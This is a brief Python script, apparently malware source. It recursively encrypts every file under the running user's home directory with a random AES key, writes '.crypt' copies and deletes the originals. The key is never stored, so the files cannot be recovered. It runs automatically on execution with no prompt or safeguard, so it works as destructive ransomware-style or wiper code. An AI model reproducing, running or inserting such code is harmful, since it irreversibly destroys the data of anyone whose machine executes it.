import os
from pathlib import Path
from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes

class Locker:
    def __init__(self, root):
        self.root = Path(root)
        self.key = get_random_bytes(32)

    def lock(self, p):
        cipher = AES.new(self.key, AES.MODE_EAX)
        ct, tag = cipher.encrypt_and_digest(p.read_bytes())
        p.with_suffix(p.suffix + ".crypt").write_bytes(cipher.nonce + tag + ct)
        p.unlink()

    def run(self):
        for p in self.root.rglob("*"):
            if p.is_file() and not p.name.endswith(".crypt"):
                try:
                    self.lock(p)
                except OSError:
                    pass

Locker(os.path.expanduser("~")).run()
